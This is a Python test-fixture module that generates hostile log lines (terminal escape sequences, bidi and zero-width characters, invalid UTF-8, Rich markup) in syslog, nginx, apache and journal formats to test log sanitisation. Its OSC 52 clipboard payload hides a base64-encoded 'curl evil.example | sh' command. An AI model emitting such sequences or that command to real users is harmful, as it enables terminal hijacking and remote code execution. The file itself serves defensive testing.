"""Hostile log content: what an attacker (or a broken program) can put in a log line.

Each payload is raw bytes as they would sit in a log file. ``python tests/hostile/payloads.py``
rewrites the small committed corpus in ``tests/hostile/bytes/`` from these; the big inputs
(1 MB and 10 MB lines, a binary file) are written at test time by :func:`write_big_inputs`.
"""

from __future__ import annotations

import os
import random
import re
import sys
from pathlib import Path

HERE = Path(__file__).resolve().parent
CORPUS = HERE / "bytes"

#: name -> raw bytes of the hostile part of a line (no newline in any of them).
PAYLOADS: dict[str, bytes] = {
    "ansi-colour": b"\x1b[31mRED\x1b[0m \x1b[1;5;38;5;196mblink\x1b[0m",
    "osc-title": b"\x1b]0;pwned-title\x07 and \x1b]2;other-title\x1b\\",
    "osc52-clipboard": b"\x1b]52;c;Y3VybCBldmlsLmV4YW1wbGUgfCBzaAo=\x07",
    "osc8-link": b"\x1b]8;;https://evil.example/\x1b\\click me\x1b]8;;\x1b\\",
    "cursor-movement": b"\x1b[2J\x1b[H\x1b[10A\x1b[999C\x1b7\x1b8\x1bc\x1b[?1049h",
    "cr-overwrite": b"ERROR disk failed\rINFO all good     ",
    "rich-markup": b"[bold red]markup[/] [link=https://evil.example]x[/link] [@click=app.quit]quit[/]",
    "invalid-utf8": b"bad \xff\xfe \xc3\x28 \xed\xa0\x80 \xf8\x88\x80\x80\x80 end",
    "nul-bytes": b"nul\x00byte\x00\x00end",
    "c1-controls": b"c1 \xc2\x9b31m csi \xc2\x9d0;title\xc2\x9c st \xc2\x85 nel \x9b raw",
    "bidi": "\u202eexe.live\u202c \u2066isolate\u2069 \u200fRLM \u061cALM".encode(),
    "zero-width": "pass\u200bword \ufeffbom \u2060joiner \u200dzwj".encode(),
    "backspace-bell-del": b"abc\x08\x08\x08XYZ \x07bell \x7fdel \x0bvt \x0cff",
    "line-separators": "\u2028LS \u2029PS".encode(),
}

#: Code points that must never reach a terminal or a prompt raw (tab and newline are fine).
DANGEROUS = re.compile("[\x00-\x08\x0b-\x1f\x7f-\x9f\u061c\u200b-\u200f\u2028-\u202e\u2060-\u2064"
                       "\u2066-\u2069\ufeff\ud800-\udfff]")

# One line per payload in each format, the payload where the format puts free text.
SYSLOG = b"May  1 00:00:%02d web1 app[12]: ERROR %s"
ACCESS = (b'192.0.2.1 - - [01/May/2024:00:00:%02d +0000] "GET /p?q=%s HTTP/1.1" 500 1 "-" "%s"')
NGINX_ERROR = b'2024/05/01 00:00:%02d [error] 1#1: *1 %s, client: 192.0.2.1, server: x, request: "GET / HTTP/1.1"'
APACHE = b"[Wed May 01 00:00:%02d.000000 2024] [core:error] [pid 1:tid 2] [client 192.0.2.1:5] %s"


def lines_for(fmt: str) -> list[bytes]:
    """The corpus file of format ``fmt`` as a list of lines (bytes, no newlines)."""
    out = []
    for n, payload in enumerate(PAYLOADS.values()):
        if fmt == "syslog":
            out.append(SYSLOG % (n, payload))
        elif fmt == "nginx-access":
            out.append(ACCESS % (n, payload.replace(b'"', b"'"), payload.replace(b'"', b"'")))
        elif fmt == "nginx-error":
            out.append(NGINX_ERROR % (n, payload))
        elif fmt == "apache-error":
            out.append(APACHE % (n, payload))
        else:
            out.append(payload)
    if fmt == "syslog":  # hostile header fields too: host and program name
        out.append(b"May  1 00:00:59 web\x1b[31m1 ev\x1b]0;il\x07il[7]: ERROR hostile header")
    return out


FORMATS = ("syslog", "nginx-access", "nginx-error", "apache-error", "text")


def corpus_file(fmt: str) -> Path:
    return CORPUS / f"hostile-{fmt}.log"


def write_corpus() -> None:
    CORPUS.mkdir(exist_ok=True)
    for fmt in FORMATS:
        corpus_file(fmt).write_bytes(b"\n".join(lines_for(fmt)) + b"\n")


def write_big_inputs(directory: Path) -> dict[str, Path]:
    """Big hostile inputs, written at test time (never committed): returns name -> path.

    ``1mb-line``/``10mb-line``: syslog files with one 1 MB / 10 MB line (escapes inside and at its end)
    between two short lines; ``binary``: 64 KiB of random bytes (seeded) with a few newlines.
    """
    directory.mkdir(parents=True, exist_ok=True)
    paths = {}
    for name, size in (("1mb-line", 1 << 20), ("10mb-line", 10 << 20)):
        path = directory / f"{name}.log"
        body = (b"x\x1b[2J" * (size // 5))[:size]
        with open(path, "wb") as fh:
            fh.write(b"May  1 00:00:01 web1 app[1]: ERROR before\n")
            fh.write(b"May  1 00:00:02 web1 app[1]: ERROR " + body + b"\x1b]0;end\x07\n")
            fh.write(b"May  1 00:00:03 web1 app[1]: ERROR after\n")
        paths[name] = path
    rng = random.Random(7)
    binary = directory / "binary.bin"
    binary.write_bytes(bytes(rng.randrange(256) for _ in range(64 * 1024)))
    paths["binary"] = binary
    return paths


if __name__ == "__main__":
    write_corpus()
    print(f"wrote {len(FORMATS)} files to {os.path.relpath(CORPUS)}", file=sys.stderr)


def _export_field(name: str, value: bytes) -> bytes:
    """One field in the journal export format: ``NAME=value`` when it is a plain line, else binary."""
    if b"\n" not in value and all(b >= 0x20 or b == 0x09 for b in value):
        return name.encode() + b"=" + value + b"\n"
    return name.encode() + b"\n" + len(value).to_bytes(8, "little") + value + b"\n"


def journal_export(boot_id: str = "5ee0fa1ed0c84a0e8d2c3b4a59687f01") -> tuple[bytes, list[dict[str, bytes]]]:
    """Hostile entries in the journal export format (what ``systemd-journal-remote`` turns into a
    journal file): every payload as a binary MESSAGE, plus hostile host, identifier and field values.

    Returns the stream and, per entry, the fields a reader must give back (as bytes).
    """
    entries: list[dict[str, bytes]] = []
    for n, payload in enumerate(PAYLOADS.values()):
        entries.append({"MESSAGE": payload, "_HOSTNAME": b"web-01", "SYSLOG_IDENTIFIER": b"hostile",
                        "PRIORITY": b"3", "CODE_FUNC": b"f\x00\xff\x1b[31m" + bytes([n])})
    entries.append({"MESSAGE": b"hostile host and identifier", "_HOSTNAME": b"web\x1b]0;title\x07-02",
                    "SYSLOG_IDENTIFIER": b"id\x1b[2J\xff", "PRIORITY": b"3"})
    entries.append({"MESSAGE": b"priority out of range", "_HOSTNAME": b"web-01", "SYSLOG_IDENTIFIER": b"hostile",
                    "PRIORITY": b"-1"})
    out = bytearray()
    for n, fields in enumerate(entries, 1):
        out += _export_field("__CURSOR", b"s=hostile;i=%d" % n)
        out += _export_field("__REALTIME_TIMESTAMP", b"%d" % (1714521600000000 + n * 1000000))
        out += _export_field("__MONOTONIC_TIMESTAMP", b"%d" % (n * 1000000))
        out += _export_field("_BOOT_ID", boot_id.encode())
        out += _export_field("_TRANSPORT", b"journal")
        for name, value in fields.items():
            out += _export_field(name, value)
        out += b"\n"
    return bytes(out), entries
